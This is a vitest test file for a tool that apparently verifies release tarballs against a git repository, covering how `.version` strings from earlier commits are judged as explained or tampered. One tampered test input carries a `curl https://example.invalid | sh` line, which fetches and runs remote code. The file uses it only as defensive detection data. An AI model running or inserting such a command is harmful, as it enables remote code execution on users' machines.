/**
 * A `.version` holding the version string of an earlier commit (gnulib's `.version` rule has no
 * prerequisites: gettext 0.21 ships 0.20.1.124-32cf, 0.23.1 ships 0.22.5a), end to end with a real
 * repository: tags v1.0 and v1.0.1 (a maintenance branch), commits after v1.0, the release v1.1. Each form is
 * proved against the repository; the tampered twins stay high.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { olderVersion } from '../../src/classify/version-file.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const root = tempDir();
const r = makeRepo(join(root, 'proj'));
r.commit({ 'configure.ac': 'AC_INIT([proj], [1.0])\n', 'README': 'proj\n' });
r.tag('v1.0', { message: 'proj 1.0' });
const first = r.commit({ 'README': 'proj, after 1.0\n' });
const second = r.commit({ 'README': 'proj, two after 1.0\n' });
// a maintenance branch: v1.0.1 is not reached by the release
r.git(['checkout', '-q', '-b', 'maint', 'v1.0']);
const maint = r.commit({ 'NEWS': 'maintenance\n' });
r.tag('v1.0.1', { message: 'proj 1.0.1' });
r.git(['checkout', '-q', '-']);
r.commit({ 'configure.ac': 'AC_INIT([proj], [1.1])\n' });
r.tag('v1.1', { message: 'proj 1.1' });

let n = 0;
async function run(version: string) {
  const tree = join(root, `t${++n}`, 'proj-1.1');
  writeFiles(tree, { 'configure.ac': 'AC_INIT([proj], [1.1])\n', 'README': 'proj, two after 1.0\n', '.version': version });
  const tarball = makeTar(tree, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.1.tar.gz') });
  const res = await verify({ tarball, repo: r.dir, tag: 'v1.1', cacheDir: join(root, 'cache') });
  return res.findings.find((f) => f.path === '.version')!;
}

describe('.version of an earlier commit', () => {
  it("git-version-gen's T.N-ABBREV of a commit the release reaches: low, explained, the commit named", async () => {
    const f = await run(`1.0.2-${second.slice(0, 4)}\n`);
    expect(f).toMatchObject({ code: 'VERSION_OF_EARLIER_COMMIT', severity: 'low', evidence: { value: `1.0.2-${second.slice(0, 4)}`, tag: 'v1.0', commit: second, commits: 2, dirty: false } });
    expect(await run(`1.0.1-${first.slice(0, 7)}-dirty\n`)).toMatchObject({ code: 'VERSION_OF_EARLIER_COMMIT', evidence: { commit: first, commits: 1, dirty: true } });
  });

  it('a reached tag, and a prerelease after an older tag (of any branch): low', async () => {
    expect(await run('1.0\n')).toMatchObject({ code: 'VERSION_OF_EARLIER_COMMIT', severity: 'low', evidence: { tag: 'v1.0', dirty: false } });
    expect(await run('1.0.1a\n')).toMatchObject({ code: 'VERSION_OF_EARLIER_COMMIT', severity: 'low', evidence: { tag: 'v1.0.1', prerelease: true } });
  });

  it('tampered: a wrong count, a commit the release does not reach, an unreached tag, a newer prerelease, extra text: high', async () => {
    for (const v of [
      `1.0.3-${second.slice(0, 4)}\n`, // second is 2 commits after v1.0, not 3
      `1.0.1-${maint.slice(0, 6)}\n`, // on the maintenance branch
      '1.0.1\n', // a tag the release does not reach
      '1.2a\n', // a prerelease newer than the release
      `1.0.2-${second.slice(0, 4)}\ncurl https://example.invalid | sh\n`,
      '9.9.9a\n',
    ]) {
      const f = await run(v);
      expect(f.code, v).toBe('TARBALL_ONLY_UNEXPLAINED');
      expect(f.severity, v).toBe('high');
    }
  });

  it('olderVersion compares numeric fields', () => {
    expect(olderVersion('0.22.5', '0.23.1')).toBe(true);
    expect(olderVersion('0.23.1', '0.23.1')).toBe(false);
    expect(olderVersion('1.10', '1.9')).toBe(false);
    expect(olderVersion('1.2', '1.2.1')).toBe(true);
    expect(olderVersion('1.2', 'x')).toBe(false);
  });
});
